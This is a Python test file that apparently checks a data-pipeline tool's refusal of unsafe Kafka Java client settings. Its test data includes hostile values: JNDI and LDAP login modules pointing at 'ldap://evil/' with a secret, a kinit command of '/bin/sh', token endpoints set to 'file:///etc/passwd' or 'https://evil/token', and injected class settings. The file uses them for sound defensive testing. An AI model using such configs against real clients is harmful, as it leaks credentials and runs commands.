"""Which settings of Kafka's Java client a Kafka connection and a pipeline file may set; no process is started."""

from __future__ import annotations

from pathlib import Path
from time import perf_counter
from typing import Any

import pytest

from sluice.errors import ActionRequiredError
from sluice.kafka.config import KafkaSettings
from sluice.kafka_options import CONNECTING, LOGIN_MODULES, READING, VALUES, refusal
from sluice.pipeline.load import PipelineFileError, load_pipeline

SECURITY = "org.apache.kafka.common.security"
OAUTH = f"{SECURITY}.oauthbearer.OAuthBearerLoginModule"
SECRET = "s3cr3t-of-the-log-in"
BASE = {"bootstrap.servers": "k:9093", "security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER"}
LOGINS = (
    f'{SECURITY}.scram.ScramLoginModule required username="me" password="{SECRET}";',
    f"{SECURITY}.scram.ScramLoginModule required username=me password='a;\\'b' tokenauth=true ;",
    f'{SECURITY}.plain.PlainLoginModule required\n  username="$ConnectionString"\n  password="a\\"b\\\\c; d // e";\n',
    f'{OAUTH} required clientId="me" clientSecret="{SECRET}" scope="a b" extension_logicalCluster="lkc-1" '
    'ssl.truststore.type="PEM" ssl.truststore.certificates="x\\ny";',
    f'{OAUTH} REQUIRED unsecuredLoginStringClaim_sub="me";',
    f'{OAUTH} required awsProfileName="lake";',
    "software.amazon.msk.auth.iam.IAMLoginModule required;",
    'software.amazon.msk.auth.iam.IAMLoginModule required awsProfileName="lake" awsDebugCreds=true;',
    'com.sun.security.auth.module.Krb5LoginModule required useKeyTab=true keyTab="/etc/me.keytab" principal="me@R";',
)
NO_LOGINS = (
    f'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/{SECRET}";',
    f'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil/{SECRET}";',
    f'my.own.LoginModule required password="{SECRET}";',
    f'{OAUTH} required clientId="me" clientSecret="{SECRET}" ssl.engine.factory.class="x.Y";',
    f'{OAUTH} required clientSecret="{SECRET}" security.providers="x.Y";',
    f'{SECURITY}.plain.PlainLoginModule required password="{SECRET}"; my.own.LoginModule required;',
    f'/* {SECURITY}.plain.PlainLoginModule required; */ my.own.LoginModule required password="{SECRET}";',
    f'// a\nmy.own.LoginModule required password="{SECRET}";',
    f'"my.own.LoginModule" required password="{SECRET}";',
    f'{SECURITY}.plain.PlainLoginModule required "ssl.engine.factory.class"="{SECRET}";',
    f'{SECURITY}.plain.PlainLoginModule required password="{SECRET}',
    SECRET,
    "",
)
REFUSED = {
    "bootstrap.servers": "elsewhere:9092",
    "isolation.level": "read_uncommitted",
    "group.id": "g",
    "enable.auto.commit": "true",
    "auto.offset.reset": "latest",
    "key.deserializer": "x.Y",
    "value.deserializer": "x.Y",
    "interceptor.classes": "x.Y",
    "metric.reporters": "x.Y",
    "auto.include.jmx.reporter": "true",
    "security.providers": "x.Y",
    "partition.assignment.strategy": "x.Y",
    "sasl.login.class": "x.Y",
    "sasl.login.callback.handler.class": "x.Y",
    "sasl.client.callback.handler.class": "x.Y",
    "ssl.engine.factory.class": "x.Y",
    "sasl.kerberos.kinit.cmd": "/bin/sh",
    "sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd",
    "sasl.oauthbearer.jwks.endpoint.url": "file:///etc/passwd",
    "sasl.jaas.config": NO_LOGINS[0],
    "transactional.id": "t",
    "enable.idempotence": "false",
    "acks": "0",
    "max.in.flight.requests.per.connection": "9",
    "key.serializer": "x.Y",
    "allow.auto.create.topics": "true",
    "check.crcs": "false",
    "internal.throw.on.fetch.stable.offset.unsupported": "true",
    "a.setting.of.a.later.client": "1",
}


def settings(**java: str) -> KafkaSettings:
    return KafkaSettings("c", BASE, java)


@pytest.mark.parametrize(("name", "value"), REFUSED.items())
def test_a_connection_may_not_give_what_is_not_listed(name: str, value: str) -> None:
    with pytest.raises(ActionRequiredError, match="Spark's client may not have") as caught:
        settings(**{name: value})
    assert f"`java`: {name} " in str(caught.value)
    assert "docs/kafka-java-client.md" in str(caught.value.next_step)
    assert caught.value.where == {"connection": "c"}


@pytest.mark.parametrize("name", REFUSED)
def test_nor_may_a_pipeline_file_by_a_connection_that_has_it(name: str) -> None:
    with pytest.raises(ActionRequiredError, match="Spark's client may not have"):
        settings().with_java_options({name: REFUSED[name]})


@pytest.mark.parametrize("config", LOGINS)
def test_the_usual_log_ins_are_taken(config: str) -> None:
    assert settings(**{"sasl.jaas.config": config}).java()["sasl.jaas.config"] == config


@pytest.mark.parametrize("config", NO_LOGINS)
def test_another_login_module_or_a_class_in_its_options_is_refused_without_its_secret(config: str) -> None:
    with pytest.raises(ActionRequiredError, match=r"sasl\.jaas\.config") as caught:
        settings(**{"sasl.jaas.config": config})
    assert SECRET not in str(caught.value)


def test_a_long_log_in_is_read_in_linear_time() -> None:
    begin = perf_counter()
    for text in ("a=b " * 200_000, 'a="' + '\\"' * 200_000, " " * 200_000, "a" * 200_000):
        assert refusal("sasl.jaas.config", f"{OAUTH} required {text}")
    assert perf_counter() - begin < 5


@pytest.mark.parametrize(
    ("name", "value"),
    [(name, value) for name, values in VALUES.items() for value in values]
    + [("sasl.oauthbearer.token.endpoint.url", "https://idp/token"), ("max.poll.records", "1"), ("client.rack", "a")],
)
def test_known_values_are_taken(name: str, value: str) -> None:
    assert settings(**{name: value, "sasl.jaas.config": LOGINS[0]}).java()[name] == value


def test_a_token_endpoint_of_librdkafkas_is_no_file_either() -> None:
    """It is handed to Java's client, which would send the file."""
    given: dict[str, Any] = {**BASE, "sasl.oauthbearer.token.endpoint.url": "file:///etc/passwd"}
    with pytest.raises(ActionRequiredError, match=r"sasl\.oauthbearer\.token\.endpoint\.url must be an https"):
        KafkaSettings("c", given)


def test_the_lists_name_no_class_without_its_values() -> None:
    assert not READING & CONNECTING
    assert {name for name in READING | CONNECTING if name.endswith("class")} <= set(VALUES)
    assert all(name not in READING for name in REFUSED if name not in VALUES)
    assert not [module for module in LOGIN_MODULES if "Jndi" in module or "Ldap" in module]


# A pipeline file


def a_file(folder: Path, options: dict[str, str]) -> Path:
    file = folder / "orders.yaml"
    lines = "".join(f'    {name}: "{value}"\n' for name, value in options.items())
    file.write_text(
        "name: orders\nsource: {kafka: {topics: orders}}\nsink: {hudi: {path: /lake/o, schema: id BIGINT}}\n"
        f"write:\n  kafka_options:\n{lines}"
    )
    return file


@pytest.mark.parametrize("name", sorted(set(REFUSED) - {"sasl.jaas.config"}))
def test_a_pipeline_file_is_refused_when_it_is_loaded(tmp_path: Path, name: str) -> None:
    with pytest.raises(PipelineFileError) as caught:
        load_pipeline(a_file(tmp_path, {name: REFUSED[name]}))
    assert f"orders.yaml:6: write.kafka_options.{name}: " in str(caught.value)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("security.protocol", "PLAINTEXT"),
        ("sasl.mechanism", "PLAIN"),
        ("sasl.oauthbearer.token.endpoint.url", "https://evil/token"),
        ("ssl.endpoint.identification.algorithm", ""),
        ("ssl.truststore.location", "/tmp/ca.jks"),
    ],
)
def test_a_pipeline_file_does_not_say_where_a_connections_secrets_are_sent(
    tmp_path: Path, name: str, value: str
) -> None:
    with pytest.raises(PipelineFileError, match="its connection says: put it under `java`"):
        load_pipeline(a_file(tmp_path, {name: value}))


def test_a_pipeline_file_may_say_how_spark_reads(tmp_path: Path) -> None:
    given = {name: VALUES.get(name, ("1",))[0] for name in READING}
    assert load_pipeline(a_file(tmp_path, given)).write.kafka_options == given
